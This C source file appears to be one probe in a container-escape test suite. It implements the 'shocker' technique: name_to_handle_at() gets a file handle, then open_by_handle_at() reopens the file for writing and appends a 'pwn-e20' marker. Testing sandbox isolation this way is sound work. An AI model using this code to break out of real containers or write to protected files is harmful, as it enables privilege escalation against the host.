/* E20/E21: name_to_handle_at() on PATH (works without read permission on
 * the file), then open_by_handle_at() of the handle for writing (the
 * "shocker" class: needs CAP_DAC_READ_SEARCH). Mode "name" stops after
 * the handle; "open" also writes through the reopened file. */
#include "esc.h"

int main(int argc, char **argv)
{
	esc_usage(argc, 3, "e20_handle name|open PATH [MOUNTDIR]");
	static union {
		struct file_handle fh;
		unsigned char buf[sizeof(struct file_handle) + 128];
	} h;
	int mnt;
	h.fh.handle_bytes = 128;
	if (name_to_handle_at(AT_FDCWD, argv[2], &h.fh, &mnt, 0) < 0) {
		printf("name_to_handle_at: %s\n", strerror(errno));
		return 3;
	}
	printf("name_to_handle_at: ok type %d bytes %u mnt %d\n", h.fh.handle_type, h.fh.handle_bytes, mnt);
	if (strcmp(argv[1], "name") == 0)
		return 0;
	int mfd = open(argc > 3 ? argv[3] : "/", O_RDONLY | O_DIRECTORY);
	int fd = open_by_handle_at(mfd, &h.fh, O_WRONLY | O_APPEND);
	if (fd < 0) {
		printf("open_by_handle_at: %s\n", strerror(errno));
		return 1;
	}
	printf("open_by_handle_at: ok\n");
	return write(fd, "pwn-e20\n", 8) == 8 ? 0 : 1;
}
